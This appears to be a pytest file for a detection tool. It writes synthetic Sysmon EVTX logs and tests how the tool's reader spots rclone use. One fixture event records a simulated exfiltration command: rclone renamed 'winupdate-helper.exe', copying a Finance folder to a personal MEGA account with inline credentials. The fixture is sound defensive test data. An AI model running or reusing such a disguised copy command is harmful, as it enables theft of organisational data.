"""Sysmon EVTX files: a small writer of genuine EVTX, and the reader on what it writes.

python-evtx only reads, so these tests build EVTX files with the layout that
Windows writes: a 4 KiB file header and 64 KiB chunks with CRC32 checksums.
Each event record's Binary XML is a resident template (elements, attributes
and ``NormalSubstitution`` tokens), followed by an array of typed
substitution values. The writer keeps every name resident (written inline at each use),
which the format allows and which keeps it short. The bundled sample
``examples/process/endpoint/sysmon-ws042.evtx`` is this writer's output.
"""

from __future__ import annotations

import struct
import zlib
from dataclasses import dataclass
from datetime import datetime, timezone
from pathlib import Path

import Evtx.Evtx as evtx
import pytest

from proxyhunt.process.reader import read_process_logs

SAMPLE = Path(__file__).parents[1] / "examples" / "process" / "endpoint" / "sysmon-ws042.evtx"

FILE_HEADER_SIZE = 0x1000
CHUNK_SIZE = 0x10000
CHUNK_HEADER_SIZE = 0x200

# Binary XML tokens and value types, as the EVTX format defines them.
OPEN_START_ELEMENT = 0x01
HAS_ATTRIBUTES = 0x40
MORE_FOLLOWS = 0x40
CLOSE_START_ELEMENT = 0x02
CLOSE_EMPTY_ELEMENT = 0x03
CLOSE_ELEMENT = 0x04
VALUE = 0x05
ATTRIBUTE = 0x06
TEMPLATE_INSTANCE = 0x0C
NORMAL_SUBSTITUTION = 0x0D
START_OF_STREAM = 0x0F
END_OF_STREAM = 0x00
WSTRING = 0x01
UINT16 = 0x06
UINT64 = 0x0A
FILETIME = 0x11

SYSMON_PROVIDER = "Microsoft-Windows-Sysmon"
SYSMON_CHANNEL = "Microsoft-Windows-Sysmon/Operational"
EVENT_NAMESPACE = "http://schemas.microsoft.com/win/2004/08/events/event"


@dataclass
class Substitution:
    """A typed value that the template refers to by index."""

    kind: int
    data: bytes


def name_hash(name: str) -> int:
    """Return the 16-bit name hash that EVTX stores with each name string."""
    value = 0
    for character in name:
        value = (value * 65599 + ord(character)) & 0xFFFFFFFF
    return value & 0xFFFF


class TemplateWriter:
    """Binary XML of one resident template, with chunk-relative offsets for the inline names."""

    def __init__(self, chunk_offset: int) -> None:
        self.body = bytearray()
        self.chunk_offset = chunk_offset
        self.substitutions: list[Substitution] = []

    def _position(self) -> int:
        return self.chunk_offset + len(self.body)

    def _name(self, name: str) -> None:
        encoded = name.encode("utf-16-le")
        self.body += struct.pack("<IHH", 0, name_hash(name), len(name)) + encoded + b"\x00\x00"

    def _substitute(self, value: str | int | datetime, kind: int) -> None:
        if kind == WSTRING:
            data = str(value).encode("utf-16-le")
        elif kind == UINT16:
            data = struct.pack("<H", value)
        elif kind == UINT64:
            data = struct.pack("<Q", value)
        else:
            data = struct.pack("<Q", filetime(value))
        index = len(self.substitutions)
        self.substitutions.append(Substitution(kind, data))
        self.body += struct.pack("<BHB", NORMAL_SUBSTITUTION, index, kind)

    def element(self, name: str, attributes: dict[str, tuple[object, int] | str] | None = None,
                value: tuple[object, int] | None = None, children=None) -> None:
        """Write ``<name attributes>value or children</name>``; a tuple value is a typed substitution."""
        start = len(self.body)
        token = OPEN_START_ELEMENT | (HAS_ATTRIBUTES if attributes else 0)
        self.body += struct.pack("<BHI", token, 0xFFFF, 0)
        self.body += struct.pack("<I", self._position() + 4)
        self._name(name)
        if attributes:
            size_at = len(self.body)
            self.body += b"\x00\x00\x00\x00"
            names = list(attributes)
            for number, attribute in enumerate(names):
                more = MORE_FOLLOWS if number < len(names) - 1 else 0
                self.body += struct.pack("<B", ATTRIBUTE | more)
                self.body += struct.pack("<I", self._position() + 4)
                self._name(attribute)
                self._value(attributes[attribute])
            struct.pack_into("<I", self.body, size_at, len(self.body) - size_at - 4)

        if value is None and children is None:
            self.body.append(CLOSE_EMPTY_ELEMENT)
        else:
            self.body.append(CLOSE_START_ELEMENT)
            if value is not None:
                self._value(value)
            if children is not None:
                children()
            self.body.append(CLOSE_ELEMENT)
        # The data size counts the bytes after its own field up to the element's end.
        struct.pack_into("<I", self.body, start + 3, len(self.body) - start - 7)

    def _value(self, value: tuple[object, int] | str) -> None:
        if isinstance(value, tuple):
            self._substitute(*value)
            return
        encoded = value.encode("utf-16-le")
        self.body += struct.pack("<BBH", VALUE, WSTRING, len(value)) + encoded


def filetime(moment: datetime) -> int:
    """Return 100-nanosecond intervals since 1601-01-01 UTC, as Windows stores times."""
    epoch = datetime(1601, 1, 1, tzinfo=timezone.utc)
    delta = moment.replace(tzinfo=timezone.utc) - epoch
    return (delta.days * 86400 + delta.seconds) * 10_000_000 + delta.microseconds * 10


def sysmon_record(record_number: int, chunk_offset: int, computer: str, event_id: int, created: datetime,
                  data: dict[str, str]) -> bytes:
    """Return one event record: header, Binary XML root with a resident template, substitutions, size."""
    header_size = 24
    root_offset = chunk_offset + header_size
    # Stream start (4 bytes) and template instance header (10 bytes) precede the template.
    template_offset = root_offset + 4 + 10
    writer = TemplateWriter(template_offset + 24)

    def system() -> None:
        writer.element("Provider", {"Name": SYSMON_PROVIDER, "Guid": "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}"})
        writer.element("EventID", value=(event_id, UINT16))
        writer.element("TimeCreated", {"SystemTime": (created, FILETIME)})
        writer.element("EventRecordID", value=(record_number, UINT64))
        writer.element("Channel", value=(SYSMON_CHANNEL, WSTRING))
        writer.element("Computer", value=(computer, WSTRING))

    def event_data() -> None:
        for name, value in data.items():
            writer.element("Data", {"Name": name}, value=(value, WSTRING))

    def event() -> None:
        writer.element("System", children=system)
        writer.element("EventData", children=event_data)

    writer.body += struct.pack("<BBBB", START_OF_STREAM, 1, 1, 0)
    writer.element("Event", {"xmlns": EVENT_NAMESPACE}, children=event)
    writer.body.append(END_OF_STREAM)

    template = struct.pack("<I", 0) + bytes(range(16)) + struct.pack("<I", len(writer.body)) + bytes(writer.body)
    root = struct.pack("<BBBB", START_OF_STREAM, 1, 1, 0)
    root += struct.pack("<BBII", TEMPLATE_INSTANCE, 1, 0x1234, template_offset) + template
    root += struct.pack("<I", len(writer.substitutions))
    root += b"".join(struct.pack("<HBB", len(item.data), item.kind, 0) for item in writer.substitutions)
    root += b"".join(item.data for item in writer.substitutions)

    size = header_size + len(root) + 4
    size += -size % 8
    record = struct.pack("<IIQQ", 0x00002A2A, size, record_number, filetime(created)) + root
    record += b"\x00" * (size - 4 - len(record))
    return record + struct.pack("<I", size)


def write_evtx(path: Path, events: list[tuple[str, int, datetime, dict[str, str]]]) -> None:
    """Write ``events`` (computer, event id, time, EventData) as a one-chunk EVTX file."""
    records = bytearray()
    last_record_offset = CHUNK_HEADER_SIZE
    for number, (computer, event_id, created, data) in enumerate(events, start=1):
        last_record_offset = CHUNK_HEADER_SIZE + len(records)
        records += sysmon_record(number, last_record_offset, computer, event_id, created, data)
    assert CHUNK_HEADER_SIZE + len(records) <= CHUNK_SIZE

    chunk = bytearray(CHUNK_SIZE)
    count = len(events)
    struct.pack_into("<8sQQQQIIII", chunk, 0, b"ElfChnk\x00", 1, count, 1, count, 0x80, last_record_offset,
                     CHUNK_HEADER_SIZE + len(records), zlib.crc32(records))
    chunk[CHUNK_HEADER_SIZE : CHUNK_HEADER_SIZE + len(records)] = records
    struct.pack_into("<I", chunk, 0x78, 0)
    header_checksum = zlib.crc32(bytes(chunk[:0x78]) + bytes(chunk[0x80:0x200]))
    struct.pack_into("<I", chunk, 0x7C, header_checksum)

    header = bytearray(FILE_HEADER_SIZE)
    struct.pack_into("<8sQQQIHHHH", header, 0, b"ElfFile\x00", 0, 0, count + 1, 0x80, 1, 3, FILE_HEADER_SIZE, 1)
    struct.pack_into("<I", header, 0x78, 0)
    struct.pack_into("<I", header, 0x7C, zlib.crc32(bytes(header[:0x78])))
    path.write_bytes(bytes(header) + bytes(chunk))


WS042_EVENTS = [
    ("WS042.corp.example.com", 1, datetime(2026, 11, 20, 2, 44, 10), {
        "RuleName": "-",
        "UtcTime": "2026-11-20 02:44:09.870",
        "ProcessGuid": "{1f2e3d4c-0000-1111-2222-000000004242}",
        "ProcessId": "9312",
        "Image": "C:\\Users\\eve\\AppData\\Local\\Temp\\winupdate-helper.exe",
        "OriginalFileName": "rclone.exe",
        "CommandLine": "winupdate-helper.exe copy C:\\Users\\eve\\Documents\\Finance mega:q4 "
                       "--mega-user eve.personal@example.org --mega-pass hunter2 --transfers 16 -q",
        "CurrentDirectory": "C:\\Users\\eve\\",
        "User": "CORP\\eve",
        "IntegrityLevel": "Medium",
        "ParentImage": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "ParentCommandLine": "powershell.exe",
    }),
    ("WS042.corp.example.com", 1, datetime(2026, 11, 20, 2, 50, 0), {
        "UtcTime": "2026-11-20 02:50:00.000",
        "ProcessId": "9400",
        "Image": "C:\\Windows\\System32\\notepad.exe",
        "OriginalFileName": "NOTEPAD.EXE",
        "CommandLine": "notepad.exe",
        "User": "CORP\\eve",
    }),
]


def test_writer_output_passes_python_evtx_checks(tmp_path):
    path = tmp_path / "sysmon.evtx"
    write_evtx(path, WS042_EVENTS)
    with evtx.Evtx(str(path)) as log:
        header = log.get_file_header()
        assert header.verify()
        chunks = list(header.chunks())
        assert len(chunks) == 1
        assert chunks[0].verify()
        records = list(log.records())
        numbers = [record.record_num() for record in records]
        verified = [record.verify() for record in records]
        first_xml = records[0].xml()
    assert numbers == [1, 2]
    assert verified == [True, True]
    assert '<Data Name="OriginalFileName">rclone.exe</Data>' in first_xml
    assert '<TimeCreated SystemTime="2026-11-20 02:44:10+00:00"></TimeCreated>' in first_xml


def test_reader_on_written_evtx(tmp_path):
    path = tmp_path / "sysmon.evtx"
    write_evtx(path, WS042_EVENTS)
    logs = read_process_logs([str(path)], keep_others=True)
    report = logs.reports[0]
    assert report.format == "EVTX (Sysmon 1)"
    assert report.records == 2
    assert report.process_events == 2
    assert report.rclone_processes == 1
    process = logs.processes[0]
    assert process.recognized_by == "OriginalFileName rclone.exe"
    assert process.event.time == datetime(2026, 11, 20, 2, 44, 9, 870000)
    assert process.event.hostname == "WS042.corp.example.com"
    assert process.event.process_id == 9312
    assert process.event.source_line == 1
    assert process.command.destination.remote == "mega"
    assert logs.other_processes[0].source_line == 2


def test_reader_on_damaged_evtx(tmp_path):
    path = tmp_path / "damaged.evtx"
    write_evtx(path, WS042_EVENTS)
    data = bytearray(path.read_bytes())
    # Overwrite the first record's template instance token, so its Binary XML is invalid.
    data[FILE_HEADER_SIZE + CHUNK_HEADER_SIZE + 24 + 4] = 0x7F
    path.write_bytes(bytes(data))
    logs = read_process_logs([str(path)])
    report = logs.reports[0]
    assert report.error is None
    assert report.rejected[0].line == 1
    assert report.rejected[0].reason.startswith("damaged EVTX record")


def test_reader_on_truncated_evtx(tmp_path):
    path = tmp_path / "truncated.evtx"
    write_evtx(path, WS042_EVENTS)
    path.write_bytes(path.read_bytes()[:30000])
    report = read_process_logs([str(path)]).reports[0]
    assert report.error == f"{path}: truncated EVTX file (30000 bytes, less than one 64 KiB chunk); export the log again"


def test_bundled_evtx_sample_is_writer_output(tmp_path):
    if not SAMPLE.exists():
        pytest.fail(f"{SAMPLE} is missing; regenerate it with write_evtx(SAMPLE, WS042_EVENTS[:1])")
    path = tmp_path / "expected.evtx"
    write_evtx(path, WS042_EVENTS[:1])
    assert SAMPLE.read_bytes() == path.read_bytes()
